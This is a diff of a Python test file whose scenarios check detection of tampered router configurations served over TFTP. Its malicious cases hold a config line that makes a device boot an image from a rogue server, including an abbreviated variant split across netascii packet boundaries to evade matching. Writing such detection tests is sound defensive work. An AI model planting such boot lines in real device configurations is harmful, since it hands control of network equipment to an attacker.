@@ -19,19 +19,19 @@ def served(file: str, server: str = ROGUE, device: str = DEVICE) -> Notice:
 @scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
 def bw08_boot_system_line(wire: Wire) -> None:
     """The declared server hands out a configuration that someone changed to boot from elsewhere."""
-    tftp.read(
-        wire, DEVICE, SERVER, "branch7-confg", config("branch7", (f"boot system tftp://{ROGUE}/evil.bin",))
-    )
+    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", (f"boot system tftp://{ROGUE}/evil.bin",)))
 
 
 @scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
 def bw08_netascii_across_blocks(wire: Wire) -> None:
     """The line is abbreviated, written in netascii, and lies across the border of two blocks."""
     head = config("branch7").split(b"boot-end-marker")[0]
-    filler = b"! " + b"x" * (505 - len(tftp.netascii(head)) - 4) + b"\n"
-    text = head + filler + f"boo sys tft evil.bin {ROGUE}\nend\n".encode()
+    # A line on the wire ends in two bytes; the boot line begins four bytes before the block's end.
+    text = (
+        head + b"!".ljust(508 - len(tftp.netascii(head)) - 2, b"x") + f"\nboo sys tft evil.bin {ROGUE}\nend\n".encode()
+    )
     wire_text = tftp.netascii(text)
-    assert b"boo sys" in wire_text[500:530] and b"boo sys" not in wire_text[:512]
+    assert wire_text.index(b"boo sys") == 508
     tftp.read(wire, DEVICE, SERVER, "branch7-confg", wire_text, mode="netascii")
 
 
@@ -88,7 +88,9 @@ def bw08_lines_that_only_mention(wire: Wire) -> None:
 @scenario("BW08", "benign", site=HQ, with_site=Expect())
 def bw08_web_page_about_it(wire: Wire) -> None:
     """A workstation reads a tutorial that shows the very lines."""
-    page = f"<html><pre>\nRouter(config)# boot system tftp://{ROGUE}/image.bin\nboot system tftp i {ROGUE}\n</pre></html>"
+    page = (
+        f"<html><pre>\nRouter(config)# boot system tftp://{ROGUE}/image.bin\nboot system tftp i {ROGUE}\n</pre></html>"
+    )
     http.get(
         wire,
         "10.0.2.40",
